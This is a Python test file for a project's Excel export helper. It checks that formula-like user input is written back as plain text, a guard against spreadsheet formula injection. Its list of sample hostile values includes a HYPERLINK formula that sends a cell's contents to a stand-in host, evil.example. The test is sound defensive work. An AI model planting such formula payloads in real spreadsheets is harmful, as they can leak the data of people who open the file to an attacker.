"""Spreadsheets from user input are data: a value that starts like a formula reads back as the same text."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from core.excel import append_row

HOSTILE = ['=HYPERLINK("http://evil.example/?id="&D2,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


def _roundtrip(write_only: bool) -> list:
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    append_row(ws, [*HOSTILE, "Nguyễn Văn A", 37000, None])
    buf = io.BytesIO()
    wb.save(buf)
    return list(load_workbook(io.BytesIO(buf.getvalue())).worksheets[0].iter_rows())[0]


def test_formula_like_text_stays_text_in_both_workbook_modes():
    for write_only in (True, False):
        row = _roundtrip(write_only)
        assert [c.value for c in row[:5]] == HOSTILE
        assert all(c.data_type == "s" for c in row[:6])
        assert row[5].value == "Nguyễn Văn A" and row[6].value == 37000 and row[6].data_type == "n"
